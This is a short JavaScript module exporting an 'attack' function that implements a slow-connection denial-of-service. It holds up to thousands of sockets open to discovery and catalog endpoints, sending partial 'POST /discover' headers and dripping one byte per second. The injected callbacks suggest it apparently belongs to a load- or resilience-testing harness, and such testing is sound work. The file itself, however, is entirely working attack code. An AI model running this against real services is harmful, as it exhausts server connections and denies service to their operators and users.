// Thousands of connections from one source: some send nothing, some start a header and continue with an occasional byte.
const perTarget = 3_000;

export async function attack({ discoveryUrl, catalogUrl, open, keepDoing, underWay, signal, pause }) {
  const held = new Set();
  const begin = async (url, firstBytes) => {
    const socket = await open(url, firstBytes);
    if (!socket) return pause(20);
    held.add(socket);
    socket.on('close', () => held.delete(socket));
  };
  const drip = setInterval(() => {
    for (const socket of held) if (socket.writable) socket.write('a');
  }, 1_000);
  signal.addEventListener('abort', () => clearInterval(drip));
  let opened = 0;
  underWay();
  await keepDoing(
    async () => {
      if (held.size >= 2 * perTarget) return pause(100);
      const url = opened++ % 2 === 0 ? discoveryUrl : catalogUrl;
      await begin(url, opened % 3 === 0 ? 'POST /discover HTTP/1.1\r\nx-slow: ' : '');
    },
    { concurrency: 50, perSecond: 2_000 },
  );
}
